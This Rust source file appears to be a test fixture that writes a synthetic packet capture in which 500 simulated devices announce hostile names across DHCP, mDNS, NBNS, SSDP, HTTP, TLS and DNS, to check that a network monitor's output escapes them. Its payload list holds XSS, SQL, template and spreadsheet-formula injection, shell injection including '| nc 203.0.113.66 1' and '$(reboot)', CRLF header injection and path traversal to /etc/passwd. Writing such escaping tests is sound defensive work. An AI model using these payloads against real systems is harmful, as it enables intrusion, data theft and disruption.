//! Five hundred hostile names: everything that a stranger can write into a name, in every protocol that carries one. For
//! the browser journey and for the test that none of it leaves the program as more than text.
//!
//! Each name is a device of its own, 192.168.4.0/22, that says it in one way; some of them scan, so that names stand in
//! alerts as well.

use super::dhcp::{Dhcp, message};
use super::home::{background, outside};
use super::names;
use super::packet::{Host, group};
use super::talk::NEAR;
use super::trace::Trace;
use super::{MIN, MS, SEC};
use std::net::Ipv4Addr;

/// How many names there are.
pub const NAMES: usize = 500;

/// What is set when a name becomes a script: every script here would set it.
pub const FLAG: &str = "owned";

/// Names, apart from those that are made by the thousand letters below.
const TEXTS: &[&str] = &[
    // markup and script
    "<script>window.owned=1</script>",
    "<img src=x onerror=\"window.owned=1\">",
    "<svg/onload=window.owned=1>",
    "\"><script>window.owned=1</script>",
    "' autofocus onfocus='window.owned=1",
    "</title><script>window.owned=1</script>",
    "</textarea><iframe src=\"javascript:owned=1\">",
    "<b>bold</b><h1>big</h1>",
    "<style>*{display:none}</style>",
    "<base href=//203.0.113.66/>",
    "<meta http-equiv=refresh content=0;url=/x>",
    "<link rel=stylesheet href=//203.0.113.66>",
    "<a href=javascript:owned=1>click</a>",
    "<marquee>slides</marquee><plaintext>",
    "<!--",
    "]]>",
    "&lt;b&gt;&#60;b&#62;&amp;",
    "&#x202e;",
    "%3Cscript%3E",
    "javascript:window.owned=1",
    "data:text/html,<script>owned=1</script>",
    "x\" style=\"position:fixed;inset:0",
    // templates, code, queries
    "{{constructor.constructor('owned=1')()}}",
    "${window.owned=1}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{name} {0} {n}",
    "%s%n%x%d",
    "'; DROP TABLE alerts; --",
    "\" OR 1=1 --",
    "__proto__",
    "constructor",
    "toString",
    "undefined",
    "null",
    "NaN",
    "[object Object]",
    "true",
    "-1",
    "0",
    // spreadsheets, shells, paths
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "=HYPERLINK(\"http://203.0.113.66\")",
    "\t=1+1",
    "; reboot #",
    "$(reboot)",
    "`reboot`",
    "| nc 203.0.113.66 1",
    "../../../../etc/passwd",
    "..\\..\\windows",
    "/dev/null",
    "C:\\CON",
    "file:///etc/passwd",
    "//203.0.113.66/share",
    "?next=//203.0.113.66",
    "#health",
    // control characters and terminals
    "a\0b",
    "bell\u{7}",
    "\u{1b}[31mred\u{1b}[0m",
    "\u{1b}]0;title\u{7}",
    "line\r\nSet-Cookie: a=b",
    "one\ntwo",
    "\u{7f}\u{80}\u{9b}31m",
    "\u{2028}paragraph\u{2029}",
    // direction, the invisible, look-alikes
    "gpj\u{202e}cod.exe",
    "\u{2066}isolated\u{2069}",
    "\u{202d}left\u{202c}",
    "\u{200f}mark\u{200e}",
    "\u{61c}letter",
    "zero\u{200b}width\u{200d}joined\u{feff}",
    "\u{2060}\u{2062}\u{2063}",
    "\u{ad}soft\u{ad}hyphen",
    "\u{e0001}\u{e0041}tags",
    "pаypаl-cyrillic",
    "\u{3164}\u{3164}",
    "\u{00a0}\u{2003}spaces\u{3000}",
    "שלום עולם",
    "مرحبا بالعالم",
    "\u{5d0}\u{5d1} 123 <b>",
    "网络监视器",
    "ネットワーク",
    "Ωμέγα",
    "नमस्ते",
    "👩‍👩‍👧‍👦 family",
    "🏴‍☠️🇳🇱🇳🇱",
    "💥\u{fe0f}\u{20e3}",
    "\u{1f3fb}\u{1f3ff}",
    "ﷺﷺﷺﷺ",
    "𒐫𒐫𒐫",
    "W\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}",
    // long
    "no-break-no-break-no-break-no-break-no-break-no-break-no-break-",
    "......",
    "-----------------------------",
    " ",
];

/// Combining marks, for towers of them.
const MARKS: [char; 8] =
    ['\u{300}', '\u{301}', '\u{30b}', '\u{316}', '\u{323}', '\u{334}', '\u{489}', '\u{20dd}'];

/// A name of each hostile kind in turn; the round makes each one its own.
fn text(n: usize) -> String {
    let made = TEXTS.len() + 3;
    let (which, round) = (n % made, n / made);
    match which.checked_sub(TEXTS.len()) {
        None if round == 0 => TEXTS[which].to_owned(),
        None => format!("{}{round}", TEXTS[which]),
        Some(0) => format!("z{round}").chars().flat_map(|c| [c].into_iter().chain(MARKS.repeat(9))).collect(),
        Some(1) => "W".repeat(65_536),
        Some(_) => format!("<i id={round}>{}", "\u{202e}<img src=x onerror=owned=1>".repeat(2_000)),
    }
}

/// The longest beginning of `text` of at most `most` bytes.
fn cut(text: &str, most: usize) -> &str {
    let mut end = most.min(text.len());
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    &text[..end]
}

fn device(n: usize) -> Host {
    let ip = Ipv4Addr::from(u32::from(Ipv4Addr::new(192, 168, 4, 10)) + n as u32);
    Host::new([0x78, 0x2b, 0xcb, 9, (n >> 8) as u8, n as u8], ip)
}

fn gateway() -> Host {
    super::home::gateway()
}

/// The whole of it as a capture: ten minutes.
pub fn pcap() -> Vec<u8> {
    let mut trace = Trace::named("hostile");
    let t = &mut trace;
    background(t, 0, 10 * MIN, 20);
    for n in 0..NAMES {
        let (at, host, name) = (5 * SEC + n as i64 * 800 * MS, device(n), text(n));
        t.arp_announce(at, host);
        SAYINGS[n % SAYINGS.len()](t, at + 20 * MS, host, &name);
        let site = outside("198.51.100.11");
        t.https(at + 300 * MS, host, site, "www.news.example", 300, 1_000 + n * 4);
    }
    // Those that said their names by DHCP and mDNS scan; alerts carry their names.
    for (i, n) in [0, 1, 7, 8, 70, 71, 98, 99].into_iter().enumerate() {
        let (from, to) = (device(n), super::home::nas());
        for port in 0..60 {
            let at = 8 * MIN + i as i64 * 5 * SEC + i64::from(port) * 30 * MS;
            t.refused(at, NEAR, from.port(40_000 + port), to.port(1_000 + port));
        }
    }
    trace.into_pcap()
}

/// The ways in which a device says its name.
const SAYINGS: [fn(&mut Trace, i64, Host, &str); 7] = [dhcp, mdns, nbns, ssdp, agent, sni, resolver];

fn dhcp(t: &mut Trace, at: i64, host: Host, name: &str) {
    let base =
        Dhcp { name: cut(name, 255), vendor: cut(name, 200), ..Dhcp::new(message::REQUEST, 0, host.mac) };
    t.lease(at, host, gateway(), &base);
}

/// One label of at most 63 bytes, whatever is in it, and `rest`.
fn labelled(name: &str, rest: &str) -> Vec<u8> {
    let label = cut(name, 63);
    [&[label.len() as u8], label.as_bytes(), &names::name(rest)].concat()
}

fn record(owner: &[u8], kind: u16, data: &[u8]) -> Vec<u8> {
    let size = (data.len() as u16).to_be_bytes();
    [owner, &kind.to_be_bytes(), &[0x80, 1, 0, 0, 0, 120], &size, data].concat()
}

fn mdns(t: &mut Trace, at: i64, host: Host, name: &str) {
    let (own, instance) = (labelled(name, "local"), labelled(name, "_http._tcp.local"));
    let says = |key: &str| {
        let pair = format!("{key}={}", cut(name, 240));
        [&[pair.len() as u8], pair.as_bytes()].concat()
    };
    let records = [
        record(&names::name("_http._tcp.local"), names::rtype::PTR, &instance),
        record(&instance, names::rtype::SRV, &[&[0, 0, 0, 0, 0, 80], &own[..]].concat()),
        record(&instance, names::rtype::TXT, &[says("fn"), says("md"), says("model")].concat()),
        record(&own, names::rtype::A, &host.v4().octets()),
    ];
    let message = [&[0, 0, 0x84, 0, 0, 0, 0, 4, 0, 0, 0, 0], &records.concat()[..]].concat();
    t.udp(at, Host { ttl: 255, ..host }.port(5353), group("224.0.0.251").port(5353), &message);
}

/// A registration by broadcast.
fn nbns(t: &mut Trace, at: i64, host: Host, name: &str) {
    let padded = [cut(name, 15).as_bytes(), &[b' '; 15]].concat();
    let letters = padded[..15].iter().chain(&[0]).flat_map(|b| [b'A' + (b >> 4), b'A' + (b & 15)]);
    let label: Vec<u8> = [32].into_iter().chain(letters).chain([0]).collect();
    let id = (t.rng.next() as u16).to_be_bytes();
    let question = [&label[..], &[0, 0x20, 0, 1]].concat();
    let answer = [&[0xc0, 12, 0, 0x20, 0, 1, 0, 4, 0x93, 0xe0, 0, 6, 0, 0], &host.v4().octets()[..]].concat();
    let message = [&id[..], &[0x29, 0x10, 0, 1, 0, 0, 0, 0, 0, 1], &question, &answer].concat();
    t.udp(at, host.port(137), group("255.255.255.255").port(137), &message);
}

/// An announcement, and the description that it points to.
fn ssdp(t: &mut Trace, at: i64, host: Host, name: &str) {
    let line = cut(name, 900).replace(['\r', '\n'], " ");
    let notify = format!(
        "NOTIFY * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nNT: upnp:rootdevice\r\nNTS: ssdp:alive\r\nSERVER: {line}\r\n\
         LOCATION: http://{}:80/{}\r\nUSN: uuid:{}::upnp:rootdevice\r\n\r\n",
        host.ip,
        cut(&line, 100),
        cut(&line, 100),
    );
    t.udp(at, host.port(1900), group("239.255.255.250").port(1900), notify.as_bytes());
    let description = format!(
        "<root><device><friendlyName>{name}</friendlyName><modelName>{name}</modelName></device></root>"
    );
    let answer = format!(
        "HTTP/1.1 200 OK\r\nServer: {line}\r\nContent-Type: text/xml\r\nContent-Length: {}\r\n\r\n{description}",
        description.len()
    );
    t.http(
        at + 40 * MS,
        super::home::lan(20),
        host.port(80),
        "GET /description.xml HTTP/1.1\r\nHost: a\r\n\r\n",
        &answer,
    );
}

/// A request in the clear whose User-Agent, path, host and user are the name.
fn agent(t: &mut Trace, at: i64, host: Host, name: &str) {
    let line = name.replace(['\r', '\n'], " ");
    let request = format!(
        "GET /{} HTTP/1.1\r\nHost: {}\r\nUser-Agent: sqlmap/{line}\r\nReferer: {}\r\n\r\n",
        cut(&line, 200).replace(' ', "+"),
        cut(&line, 60),
        cut(&line, 200),
    );
    t.http(
        at,
        host,
        outside("198.51.100.12").port(80),
        &request,
        "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n",
    );
}

fn sni(t: &mut Trace, at: i64, host: Host, name: &str) {
    let mut c = t.tls(at, host, outside("198.51.100.13").port(443), cut(name, 15_000));
    c.send(false, &[], 30_000);
    c.close(true);
}

/// A look-up of the name, found, and a visit to what was found; and a log-in that says it.
fn resolver(t: &mut Trace, at: i64, host: Host, name: &str) {
    let id = (t.rng.next() as u16).to_be_bytes();
    let (from, to) = (host.port(t.rng.port()), gateway().port(53));
    let asked = [labelled(name, "example"), vec![0, 1, 0, 1]].concat();
    let ip = Ipv4Addr::new(198, 51, 101, host.v4().octets()[3]);
    t.udp(at, from, to, &[&id[..], &[1, 0, 0, 1, 0, 0, 0, 0, 0, 0], &asked].concat());
    let answer = [&[0xc0, 12, 0, 1, 0, 1, 0, 0, 1, 44, 0, 4], &ip.octets()[..]].concat();
    t.udp(at + 9 * MS, to, from, &[&id[..], &[0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0], &asked, &answer].concat());
    let there = Host { mac: gateway().mac, ip: ip.into(), ttl: 54 };
    t.https(at + 20 * MS, host, there, "", 300, 40_000);
    let line = cut(name, 60).replace(['\r', '\n'], " ");
    t.ftp_login(at + 100 * MS, host, super::home::nas(), &line, &line, false);
}
